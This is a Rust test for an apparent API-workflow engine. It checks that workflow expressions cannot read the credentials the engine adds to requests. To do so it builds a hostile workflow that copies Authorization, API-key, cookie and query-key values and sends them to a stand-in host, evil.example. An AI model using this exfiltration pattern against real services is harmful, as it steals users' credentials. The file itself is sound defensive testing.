//! A document that reads its own requests finds no credential in them to send elsewhere.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use arras::environment::Environment;
use arras::future::BoxFuture;
use arras::load::{LoadError, Loaded, Loader};
use arras::transport::{Answer, Limits, Transport};
use arras::{Cookies, Engine, Settings};
use arras_run::event::EventKind;
use arras_run::exchange::{Request, Response, header};
use arras_run::fault::Fault;

const KINDS: [(&str, &str); 6] = [
    ("header", "{type: apiKey, in: header, name: X-Key}"),
    ("query", "{type: apiKey, in: query, name: key}"),
    ("cookie", "{type: apiKey, in: cookie, name: sid}"),
    ("basic", "{type: http, scheme: basic}"),
    ("bearer", "{type: http, scheme: bearer}"),
    ("digest", "{type: http, scheme: digest}"),
];

/// An API with an operation for each kind of scheme, and another with one that takes anything.
fn api(uri: &str) -> String {
    let server = if uri.ends_with("evil.yaml") { "https://evil.example" } else { "https://api.example" };
    let mut paths =
        format!("openapi: 3.1.0\ninfo: {{title: t, version: '1'}}\nservers: [{{url: '{server}'}}]\npaths:\n");
    if uri.ends_with("evil.yaml") {
        return paths + "  /take: {post: {operationId: take, responses: {'200': {description: fine}}}}\n";
    }
    let mut schemes = "components:\n  securitySchemes:\n".to_owned();
    for (kind, scheme) in KINDS {
        paths.push_str(&format!(
            "  /{kind}: {{get: {{operationId: {kind}, security: [{{{kind}: []}}], responses: {{'200': {{description: fine}}}}}}}}\n"
        ));
        schemes.push_str(&format!("    {kind}: {scheme}\n"));
    }
    paths + &schemes
}

/// For each kind a workflow that keeps all that it can of its request and sends it elsewhere.
fn flow() -> String {
    let mut text = "arazzo: 1.0.1\ninfo: {title: t, version: '1'}\nsourceDescriptions:\n  - {name: api, url: api.yaml, type: openapi}\n  - {name: evil, url: evil.yaml, type: openapi}\nworkflows:\n".to_owned();
    let parts =
        ["$request.header.Authorization", "$request.header.X-Key", "$request.header.Cookie", "$request.query.key"];
    for (kind, _) in KINDS {
        text.push_str(&format!(
            "  - workflowId: {kind}\n    steps:\n      - {{stepId: first, operationId: $sourceDescriptions.api.{kind}}}\n      - stepId: read\n        operationId: $sourceDescriptions.api.{kind}\n        \
             parameters: [{{name: X-Own, in: header, value: mine}}]\n        outputs:\n          url: $url\n          own: $request.header.X-Own\n"
        ));
        for (index, part) in parts.iter().enumerate() {
            text.push_str(&format!("          part{index}: {part}\n"));
        }
        for (index, taken) in ["url", "own", "part0", "part1", "part2", "part3"].iter().enumerate() {
            text.push_str(&format!(
                "      - stepId: take{index}\n        operationId: $sourceDescriptions.evil.take\n        \
                 parameters: [{{name: X-Taken, in: header, value: $steps.read.outputs.{taken}}}]\n        \
                 onFailure: [{{name: on, type: goto, stepId: take{}}}]\n",
                (index + 1).min(5)
            ));
        }
    }
    text
}

struct Documents;

impl Loader for Documents {
    fn load<'a>(&'a self, uri: &'a str) -> BoxFuture<'a, Result<Loaded, LoadError>> {
        let text = if uri.ends_with("flow.yaml") { flow() } else { api(uri) };
        let loaded = Loaded { uri: uri.to_owned(), name: uri.to_owned(), bytes: text.into_bytes().into() };
        Box::pin(async move { Ok(loaded) })
    }
}

/// Keeps each request; challenges what comes without a digest, and sets a cookie.
#[derive(Clone, Default)]
struct World(Arc<Mutex<Vec<Request>>>);

impl Transport for World {
    fn send<'a>(&'a self, request: &'a Request, _: &'a Limits) -> BoxFuture<'a, Result<Answer, Fault>> {
        self.0.lock().unwrap().push(request.clone());
        let challenged = request.url.ends_with("/digest") && header(&request.headers, "authorization").is_none();
        let headers = vec![
            ("WWW-Authenticate".to_owned(), "Digest realm=\"r\", nonce=\"n\", qop=\"auth\"".to_owned()),
            ("Set-Cookie".to_owned(), "session=hush-hush-session; Path=/".to_owned()),
        ];
        let response = Response { status: if challenged { 401 } else { 200 }, headers, body: Default::default() };
        Box::pin(async move { Ok(Answer { response, duration: Duration::from_millis(1) }) })
    }
}

#[tokio::test]
async fn what_authorising_adds_is_no_value_of_any_expression() {
    let variables = [
        ("ARRAS_AUTH_API_HEADER", "hush-hush"),
        ("ARRAS_AUTH_API_QUERY", "hush-hush"),
        ("ARRAS_AUTH_API_COOKIE", "hush-hush"),
        ("ARRAS_AUTH_API_BASIC", "ada:hush-hush"),
        ("ARRAS_AUTH_API_BEARER", "hush-hush"),
        ("ARRAS_AUTH_API_DIGEST", "ada:hush-hush"),
    ];
    let world = World::default();
    let mut settings = Settings::default();
    settings.network.cookies = Cookies::Kept;
    let engine = Engine::builder()
        .environment(Environment::new(variables, BTreeMap::new()))
        .loader(Documents)
        .transport(world.clone())
        .settings(settings)
        .build()
        .unwrap();
    let loaded = engine.load("flow.yaml").await.unwrap();
    for (kind, _) in KINDS {
        world.0.lock().unwrap().clear();
        let mut urls = Vec::new();
        let workflow = loaded.workflow(kind).unwrap();
        let run = workflow.observe(|event| {
            if let EventKind::StepFinished(step) = &event.kind {
                urls.extend(step.operation.as_ref().map(|operation| operation.url.to_string()));
            }
        });
        run.await.unwrap();
        let requests = std::mem::take(&mut *world.0.lock().unwrap());
        let (taken, own): (Vec<_>, Vec<_>) = requests.into_iter().partition(|request| request.url.contains("evil"));
        let own = format!("{own:?}");
        assert!(own.contains("session=hush-hush-session"), "{kind}: {own}");
        let proves = ["Authorization", "(\"X-Key\"", "sid=hush-hush", "key=hush-hush"];
        assert!(proves.iter().any(|proof| own.contains(proof)), "{kind}: {own}");
        let taken: Vec<_> = taken.iter().filter_map(|request| header(&request.headers, "x-taken")).collect();
        assert_eq!(taken[..2], [format!("https://api.example/{kind}"), "mine".to_owned()], "{kind}");
        assert_eq!(taken.len(), 2, "{kind}: {taken:?}");
        assert!(urls.contains(&format!("https://api.example/{kind}")), "{kind}: {urls:?}");
    }
}
